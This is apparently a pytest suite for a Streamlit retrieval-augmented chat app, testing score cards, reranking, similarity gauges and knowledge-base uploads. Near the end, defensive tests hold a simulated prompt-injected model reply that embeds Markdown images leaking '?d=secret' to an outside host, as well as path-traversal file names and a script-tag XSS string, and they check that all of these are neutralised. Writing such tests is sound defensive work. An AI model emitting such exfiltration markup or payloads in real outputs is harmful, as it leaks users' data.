"""The Streamlit app through streamlit.testing's AppTest: every page, on the demo knowledge base (tiny bge-m3-format
model, embedded milvus-lite) with the test-owned Ollama-protocol server behind the real langchain-ollama client."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from ingest.pipeline import IngestPipeline
from rag.config import Settings
from rag.encoder import Encoder
from rag.retrieval import HybridRetriever
from rag.similarity import compare_texts, level_for, level_label
from rag.store import MilvusStore
from tests.support.milvus_server import MilvusServer, assert_names_the_server
from tests.support.ollama_server import OllamaTestServer, split_pieces
from tests.support.rendered import visible_text
from tests.ui.conftest import APP, KB
from ui.exports import to_csv
from ui.markup import LEVEL_COLOURS
from ui.uploads import safe_name

QUESTION = "How many days per week may employees work remotely?"
REPLY = "Employees may work remotely up to three days per week [1]. Managers approve exceptions [2]."
_ATTR = re.compile(r'data-(rank|chunk-id|level|dense)="([^"]*)"')
_SCORE = re.compile(r'data-score="(\w+)"[^>]*>([^<]+)<')


def start(page: str | None = None) -> AppTest:
    at = AppTest.from_file(str(APP), default_timeout=120).run()
    if page:
        at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def cards(at: AppTest) -> list[dict[str, Any]]:
    """The score cards on the page, in page order: their data attributes, shown scores and raw HTML."""
    found = []
    for element in at.get("html"):
        body = element.value
        if 'class="rs-card"' in body:
            card: dict[str, Any] = dict(_ATTR.findall(body[: body.index(">")]))
            card["shown"] = dict(_SCORE.findall(body))
            card["html"] = body
            found.append(card)
    return found


def search(settings: Settings, encoder: Encoder, query: str, **kwargs: Any) -> list[Any]:
    with MilvusStore(settings.milvus) as store:
        retriever = HybridRetriever.from_store(encoder, store, KB, settings.retrieval)
        return retriever.search(query, **kwargs).documents


def assert_cards_match(shown: list[dict[str, Any]], docs: list[Any], settings: Settings) -> None:
    """The cards show the retriever's own chunks, order, scores and levels."""
    assert [c["chunk-id"] for c in shown] == [d.metadata["id"] for d in docs] and docs
    for card, doc in zip(shown, docs, strict=True):
        scores = doc.metadata["scores"]
        level = level_for(scores["dense"], settings.levels)
        assert card["rank"] == str(doc.metadata["rank"]) and card["level"] == level
        assert float(card["dense"]) == pytest.approx(scores["dense"], abs=1e-5)
        assert card["shown"]["dense"] == f"{scores['dense'] * 100:.1f}%"
        assert card["shown"]["sparse"] == f"{scores['sparse']:.4f}"
        assert card["shown"]["hybrid"] == f"{scores['hybrid']:.4f}"
        assert level_label(level) in card["html"] and LEVEL_COLOURS[level] in card["html"]


def test_chat_streams_the_answer_and_shows_cards_with_the_retrievers_scores(
    demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer, ui_encoder: Encoder
) -> None:
    settings = use_settings(demo_kb, llm={"base_url": ollama_server.url})
    ollama_server.behaviour.reply = REPLY
    at = start()
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception and not at.warning

    [body] = ollama_server.chat_requests()
    assert body["stream"] is True and len(split_pieces(REPLY)) > 5  # the answer arrived as a stream of pieces
    user, assistant = at.chat_message
    assert visible_text(user.markdown[0].value) == QUESTION and visible_text(assistant.markdown[0].value) == REPLY
    shown = cards(at)
    assert_cards_match(shown, search(settings, ui_encoder, QUESTION), settings)
    assert "cited" in shown[0]["html"] and "cited" in shown[1]["html"] and "cited" not in shown[2]["html"]
    terms = search(settings, ui_encoder, QUESTION)[0].metadata["matched_terms"]
    assert terms and "<mark>" in shown[0]["html"]  # the shared terms are highlighted in the chunk text
    formula = at.expander[0].code[0].value
    assert "final = hybrid = (1.0 x dense + 0.3 x sparse) / 1.3" in formula
    assert [b.label for b in at.download_button] == ["Download CSV", "Download JSON"]
    rows = list(csv.DictReader(io.StringIO(to_csv(QUESTION, at.session_state["chat_turns"][0]["documents"]))))
    assert [r["chunk_id"] for r in rows] == [c["chunk-id"] for c in shown]
    assert float(rows[0]["dense"]) == pytest.approx(float(shown[0]["dense"]), abs=1e-5)

    # A follow-up keeps the history: both turns stay on the page and the LLM sees the first exchange.
    ollama_server.behaviour.reply = "Three days [1]."
    at.chat_input[0].set_value("And after probation?").run()
    assert len(at.chat_message) == 4 and visible_text(at.chat_message[1].markdown[0].value) == REPLY
    assert any(QUESTION in json.dumps(b) for b in ollama_server.chat_requests()[1:])


def test_judgment_buttons_append_to_judgments_jsonl(
    demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer
) -> None:
    settings = use_settings(demo_kb, llm={"base_url": ollama_server.url})
    at = start()
    at.chat_input[0].set_value(QUESTION).run()
    first, second = cards(at)[:2]
    at.button(key=f"turn0-1-{first['chunk-id']}-relevant").click().run()
    at.button(key=f"turn0-2-{second['chunk-id']}-not_relevant").click().run()
    assert not at.exception
    lines = (Path(settings.app.data_dir) / "judgments.jsonl").read_text(encoding="utf-8").splitlines()
    new = [json.loads(line) for line in lines[-2:]]
    assert [(j["chunk_id"], j["label"]) for j in new] == [(first["chunk-id"], "relevant"),
                                                          (second["chunk-id"], "not_relevant")]
    docs = at.session_state["chat_turns"][0]["documents"]
    assert all(j["kb"] == KB and j["query"] == QUESTION and j["time"] for j in new)
    assert [j["source"] for j in new] == [docs[0]["source"], docs[1]["source"]]
    assert any("Marked: Relevant" in c.value for c in at.caption)


@pytest.mark.parametrize("case", ["offline", "model_missing"])
def test_llm_problems_show_a_banner_and_still_the_cards(
    case: str, demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer,
    offline_url: str, ui_encoder: Encoder,
) -> None:
    llm = {"base_url": offline_url} if case == "offline" else {"base_url": ollama_server.url, "model": "nope:1b"}
    settings = use_settings(demo_kb, llm=llm)
    at = start()
    hint = "ollama serve" if case == "offline" else "ollama pull nope:1b"
    assert any(hint in visible_text(w.value) for w in at.warning)  # shown before asking, from /api/tags
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception and not at.error
    banners = [visible_text(w.value) for w in at.chat_message[1].warning]
    assert len(banners) == 1 and hint in banners[0] and "retrieved chunks are shown below" in banners[0]
    assert_cards_match(cards(at), search(settings, ui_encoder, QUESTION), settings)
    assert any(("🔴 **Ollama**" in m.value) for m in at.sidebar.markdown)


def test_a_broken_stream_keeps_the_partial_answer_and_the_cards(
    demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer
) -> None:
    use_settings(demo_kb, llm={"base_url": ollama_server.url})
    ollama_server.behaviour.reply, ollama_server.behaviour.fail_after = REPLY, 4
    at = start()
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception and not at.error
    assistant = at.chat_message[1]
    assert visible_text(assistant.markdown[0].value) == "".join(split_pieces(REPLY)[:4])
    [banner] = [visible_text(w.value) for w in assistant.warning]
    assert banner.startswith("The answer broke off") and "partial answer is kept" in banner
    assert len(cards(at)) == 3


def test_colbert_rerank_from_the_sidebar(
    demo_kb: Settings, use_settings: Callable[..., Settings], ui_encoder: Encoder
) -> None:
    settings = use_settings(demo_kb)
    at = start("pages_/retrieval_check.py")
    at.sidebar.selectbox(key="opt_rerank").set_value("colbert")
    at.text_input(key="rc_query").set_value("remote work days per week")
    at.button(key="rc_search").click().run()
    docs = search(settings, ui_encoder, "remote work days per week", colbert=True)
    shown = cards(at)
    assert_cards_match(shown, docs, settings)
    for card, doc in zip(shown, docs, strict=True):
        assert card["shown"]["colbert"] == f"{doc.metadata['scores']['colbert']:.4f}"
    assert "final = hybrid = (1.0 x dense + 0.3 x sparse + 1.0 x colbert) / 2.3" in at.expander[0].code[0].value


def test_cross_encoder_rerank_on_the_cards_in_the_export_and_in_the_status_block(
    demo_kb: Settings, use_settings: Callable[..., Settings], ui_encoder: Encoder
) -> None:
    reranker = {**demo_kb.retrieval.reranker.model_dump(), "batch_size": 7}  # settings no other test loads
    settings = use_settings(demo_kb, retrieval={"rerank": "cross-encoder", "rerank_candidates": 2,
                                                "reranker": reranker})
    at = start("pages_/retrieval_check.py")
    assert any(m.value.startswith("⚪ **Reranker**") and "not loaded" in m.value for m in at.sidebar.markdown)
    at.text_input(key="rc_query").set_value("remote work days per week")
    at.button(key="rc_search").click().run()
    assert not at.exception and not at.error
    docs = search(settings, ui_encoder, "remote work days per week")
    shown = cards(at)
    assert_cards_match(shown, docs, settings)
    for card, doc in zip(shown[:2], docs[:2], strict=True):
        scores = doc.metadata["scores"]
        assert card["shown"]["rerank"] == f"{scores['rerank']:.4f}"
        assert card["shown"]["rerank_raw"] == f"{scores['rerank_raw']:.4f}"
    assert "rerank" not in shown[2]["shown"]  # outside the rerank set
    formula = "final = hybrid = (1.0 x dense + 0.3 x sparse + 1.0 x rerank) / 2.3"
    assert formula in at.expander[0].code[0].value
    exported = list(csv.DictReader(io.StringIO(to_csv("q", [{"text": d.page_content, **d.metadata} for d in docs]))))
    assert [row["rerank_raw"] for row in exported] == [str(d.metadata["scores"].get("rerank_raw", "")) for d in docs]
    at.run()
    assert any("🟢 **Reranker**" in m.value and "loaded" in m.value for m in at.sidebar.markdown)


@pytest.mark.parametrize("mode", ["dense", "sparse", "hybrid"])
def test_retrieval_check_modes(
    mode: str, demo_kb: Settings, use_settings: Callable[..., Settings], ui_encoder: Encoder
) -> None:
    settings = use_settings(demo_kb)
    at = start("pages_/retrieval_check.py")
    at.text_input(key="rc_query").set_value("remote work days per week")
    at.radio(key="rc_mode").set_value(mode)
    at.number_input(key="rc_top_k").set_value(4)
    at.button(key="rc_search").click().run()
    assert not at.exception and not at.error
    docs = search(settings, ui_encoder, "remote work days per week", mode=mode, top_k=4)
    assert_cards_match(cards(at), docs, settings)
    table = at.dataframe[0].value
    assert list(table["rank"]) == [1, 2, 3, 4]
    final = [d.metadata["scores"]["final"] for d in docs]
    assert list(table["final"]) == pytest.approx(final) and final == sorted(final, reverse=True)
    formula = {"dense": "final = dense", "sparse": "final = sparse",
               "hybrid": "final = hybrid = (1.0 x dense + 0.3 x sparse) / 1.3"}[mode]
    assert any(c.value.startswith(formula + " · ") for c in at.caption)

    at.text_input(key="rc_query").set_value("   ")
    at.button(key="rc_search").click().run()
    assert [e.value for e in at.error] == ["The query is empty: type a question or a few words to search for."]
    assert not cards(at)


def test_similarity_gauge_scores_and_empty_input(
    demo_kb: Settings, use_settings: Callable[..., Settings], ui_encoder: Encoder
) -> None:
    settings = use_settings(demo_kb)
    at = start("pages_/similarity.py")
    at.button(key="sim_example_0").click().run()
    assert (at.text_area(key="sim_a").value, at.text_area(key="sim_b").value) == ("我喜欢看书", "阅读使我快乐")
    at.button(key="sim_compare").click().run()
    assert not at.exception and not at.error
    expected = compare_texts(ui_encoder, "我喜欢看书", "阅读使我快乐", settings.retrieval.weights, settings.levels)
    metrics = {m.label: m.value for m in at.metric}
    assert float(metrics["dense"].rstrip("%")) == pytest.approx(expected.dense_percent, abs=0.06)
    for name in ("sparse", "colbert", "hybrid"):
        assert float(metrics[name]) == pytest.approx(getattr(expected, name), abs=1e-4)
    spec = json.loads(at.get("plotly_chart")[0].proto.spec)
    indicator = spec["data"][0]
    assert indicator["type"] == "indicator" and indicator["value"] == pytest.approx(expected.dense_percent, abs=0.06)
    assert indicator["gauge"]["bar"]["color"] == LEVEL_COLOURS[expected.level]

    at.text_area(key="sim_b").set_value("我喜欢看书")  # the same text: 100 %, very similar, green
    at.button(key="sim_compare").click().run()
    indicator = json.loads(at.get("plotly_chart")[0].proto.spec)["data"][0]
    assert indicator["value"] == pytest.approx(100.0, abs=0.1)
    assert indicator["gauge"]["bar"]["color"] == LEVEL_COLOURS["very_similar"]
    assert "very similar / 极度相似" in indicator["title"]["text"]

    at.text_area(key="sim_b").set_value("  ")
    at.button(key="sim_compare").click().run()
    assert [e.value for e in at.error] == ["Text B is empty: type two texts to compare."]
    assert not at.get("plotly_chart") and not at.exception


def test_language_switch_to_chinese(demo_kb: Settings, use_settings: Callable[..., Settings]) -> None:
    use_settings(demo_kb)
    at = start()
    at.sidebar.radio[0].set_value("zh").run()
    assert at.title[0].value == "向知识库提问" and at.sidebar.slider[0].label == "返回片段数 (top-k)"
    pages = {"retrieval_check": "检索检查", "similarity": "语义相似度分析", "knowledge_bases": "知识库"}
    for page, title in pages.items():
        at.switch_page(f"pages_/{page}.py").run()
        assert not at.exception and at.title[0].value == title


def test_unusable_store_shows_an_error_not_a_traceback(
    demo_kb: Settings, use_settings: Callable[..., Settings]
) -> None:
    use_settings(demo_kb, milvus={"uri": "not-a-database"})
    at = start()
    assert any("neither a server URI" in e.value for e in at.sidebar.error)
    at.switch_page("pages_/knowledge_bases.py").run()
    assert not at.exception and any("neither a server URI" in e.value for e in at.main.error)


def card_text(card: dict[str, Any]) -> str:
    """The chunk text as the browser shows it: highlight tags removed, entities decoded."""
    inner = card["html"].split('class="rs-text"', 1)[1].split(">", 1)[1].rsplit("</div></div>", 1)[0]
    return html.unescape(inner.replace("<mark>", "").replace("</mark>", ""))


def test_upload_ingest_and_delete(demo_kb: Settings, use_settings: Callable[..., Settings]) -> None:
    settings = use_settings(demo_kb, app={"max_upload_mb": 0.01})
    script = "Security note: the page must show <script>alert(1)</script> as text, never run it."
    at = start("pages_/knowledge_bases.py")
    at.text_input(key="kbm_target").set_value("uploads_kb")
    at.file_uploader(key="kbm_files").set_value([
        ("notes.md", b"# Remote work\n\nEmployees may work remotely three days per week.", "text/markdown"),
        ("../../escape.txt", script.encode(), "text/plain"),
        ("broken.pdf", b"this is not a pdf", "application/pdf"),
        ("big.txt", b"remote " * 3000, "text/plain"),
    ])
    at.run()
    at.button(key="kbm_ingest").click().run()
    assert not at.exception
    outcomes = at.table[0].value
    assert dict(zip(outcomes["outcome"], outcomes["documents"], strict=True))["added"] == "2"
    [failed] = [visible_text(e.value) for e in at.error]
    assert "broken.pdf: corrupt PDF" in failed and "big.txt: file is 0.0 MB, over the 0.01 MB upload limit" in failed
    uploads = Path(settings.app.data_dir) / "uploads" / "uploads_kb"
    assert sorted(p.name for p in uploads.iterdir()) == ["broken.pdf", "escape.txt", "notes.md"]
    assert not (Path(settings.app.data_dir) / "escape.txt").exists()  # "../../" did not leave the folder
    table = at.dataframe[0].value.set_index("name")
    assert table.loc["uploads_kb", "documents"] == 2 and table.loc["uploads_kb", "chunks"] >= 2

    at.selectbox(key="kbm_name").set_value("uploads_kb").run()
    at.button(key="kbm_activate").click().run()
    assert at.sidebar.selectbox(key="opt_kb").value == "uploads_kb"

    # The chunk holding a <script> tag is shown as text: escaped in the card's HTML, never as a tag.
    at.switch_page("pages_/retrieval_check.py").run()
    at.text_input(key="rc_query").set_value("security note script alert")
    at.button(key="rc_search").click().run()
    [card] = [c for c in cards(at) if "Security note" in card_text(c)]
    assert "<script" not in card["html"].lower() and "&lt;script&gt;" in card["html"].replace("<mark>", "")
    assert card_text(card) == script

    at.switch_page("pages_/knowledge_bases.py").run()
    at.selectbox(key="kbm_doc").set_value("escape.txt")
    at.checkbox(key="kbm_doc_sure").check().run()
    at.button(key="kbm_doc_delete").click().run()
    assert any("Deleted escape.txt" in visible_text(s.value) for s in at.success)
    with MilvusStore(settings.milvus) as store:
        assert {d.source for d in store.open("uploads_kb").documents().values()} == {"notes.md"}

    at.text_input(key="kbm_drop_name").set_value("uploads_kb").run()
    at.button(key="kbm_drop").click().run()
    assert any("Deleted knowledge base 'uploads_kb'" in s.value for s in at.success) and not at.exception
    with MilvusStore(settings.milvus) as store:
        assert "uploads_kb" not in store.knowledge_bases() and KB in store.knowledge_bases()
    assert at.sidebar.selectbox(key="opt_kb").value == KB


OUTSIDE = "http://127.0.0.1:9"


def hostile_reply(body: dict[str, Any]) -> str:
    """What a hostile document could make the model write: Markdown images and links to another host."""
    if "standalone question" in json.dumps(body["messages"]):  # the follow-up rewrite
        return f"remote work ![q]({OUTSIDE}/rewritten.gif?d=secret)"
    return f"Three days [1]. ![exfil]({OUTSIDE}/answer.gif?d=secret) [details]({OUTSIDE}/link) {OUTSIDE}/bare"


def test_item1_chat_shows_images_and_links_from_the_llm_as_text(
    demo_kb: Settings, use_settings: Callable[..., Settings], ollama_server: OllamaTestServer
) -> None:
    use_settings(demo_kb, llm={"base_url": ollama_server.url})
    ollama_server.behaviour.reply = hostile_reply
    at = start()
    at.chat_input[0].set_value(QUESTION).run()
    at.chat_input[0].set_value(f"And ![u]({OUTSIDE}/question.gif)?").run()
    assert not at.exception and len(at.chat_message) == 4
    for message in at.chat_message:
        for element in message.markdown:
            assert "<img" not in element.value and "<a " not in element.value and "](" + OUTSIDE not in element.value
    answer = visible_text(at.chat_message[1].markdown[0].value)
    assert answer == f"Three days [1]. [image: exfil] details ({OUTSIDE}/link) {OUTSIDE}/bare"
    assert visible_text(at.chat_message[2].markdown[0].value) == f"And ![u]({OUTSIDE}/question.gif)?"
    [caption] = [c.value for c in at.chat_message[3].caption if "Searched for" in c.value]
    assert visible_text(caption) == f"Searched for: remote work ![q]({OUTSIDE}/rewritten.gif?d=secret)"


def test_item1_failed_files_box_shows_a_markdown_image_in_a_record_id_as_text(
    demo_kb: Settings, use_settings: Callable[..., Settings]
) -> None:
    use_settings(demo_kb)
    image_id = f"![f]({OUTSIDE}/failed.gif?d=secret)"
    rows = "".join(json.dumps({"id": image_id, "text": f"row {n}"}) + "\n" for n in (1, 2))
    at = start("pages_/knowledge_bases.py")
    at.text_input(key="kbm_target").set_value("hostile_kb")
    at.file_uploader(key="kbm_files").set_value([(f"![n]({OUTSIDE}).jsonl", rows.encode(), "application/json")])
    at.run()
    at.button(key="kbm_ingest").click().run()
    assert not at.exception
    [failed] = [e.value for e in at.error]
    assert "](" + OUTSIDE not in failed
    assert f"duplicate id '{image_id}' in rows 1 and 2" in visible_text(failed)


def test_item10_chat_keeps_its_history_while_milvus_is_down_and_works_again_after_a_restart(
    ui_settings: Callable[..., Settings], ui_encoder: Encoder, use_settings: Callable[..., Settings],
    ollama_server: OllamaTestServer, tmp_path: Path,
) -> None:
    server = MilvusServer(tmp_path / "server.db").start()
    try:
        docs = tmp_path / "docs"
        docs.mkdir()
        (docs / "remote.md").write_text("# Remote work\n\nEmployees may work remotely three days per week.\n")
        (docs / "leave.txt").write_text("Annual leave is fifteen days a year; managers approve exceptions.\n")
        settings = ui_settings(tmp_path, milvus={"uri": server.uri})
        with MilvusStore(settings.milvus) as store:
            assert IngestPipeline(settings, ui_encoder, store).run([docs], kb=KB).added == 2
        use_settings(settings, llm={"base_url": ollama_server.url})
        ollama_server.behaviour.reply = lambda body: QUESTION if "standalone" in json.dumps(body) else REPLY
        at = start()
        at.chat_input[0].set_value(QUESTION).run()
        first = [c["chunk-id"] for c in cards(at)]
        assert len(first) == 2 and not at.error

        server.stop()
        at.chat_input[0].set_value("And after probation?").run()
        assert not at.exception and len(at.chat_message) == 4
        assert visible_text(at.chat_message[1].markdown[0].value) == REPLY  # the history and its cards stay
        assert [c["chunk-id"] for c in cards(at)] == first
        [down] = [visible_text(e.value) for e in at.chat_message[3].error]
        assert_names_the_server(down, server)
        assert any(server.uri in visible_text(e.value) for e in at.sidebar.error)

        server.start()  # same data dir, same port: the next question works
        at.chat_input[0].set_value(QUESTION).run()
        assert not at.exception and not at.sidebar.error and len(at.chat_message) == 6
        assert [visible_text(e.value) for e in at.error] == [down]  # only the turn that failed, in the history
        assert visible_text(at.chat_message[5].markdown[0].value) == REPLY
        assert [c["chunk-id"] for c in cards(at)] == first + first
    finally:
        server.stop()


@pytest.mark.parametrize(("name", "safe"), [
    ("../../escape.txt", "escape.txt"), ("/etc/passwd", "passwd"), ("C:\\Users\\x\\report.pdf", "report.pdf"),
    ("..", "upload"), (".hidden.md", "hidden.md"), ("a\x00b<>|.txt", "ab___.txt"), ("年假 政策.md", "年假 政策.md"),
    ("x" * 300 + ".docx", "x" * 115 + ".docx"),
])
def test_uploaded_file_names_are_sanitised(name: str, safe: str, tmp_path: Path) -> None:
    assert safe_name(name) == safe
    assert (tmp_path / safe_name(name)).resolve().parent == tmp_path.resolve()
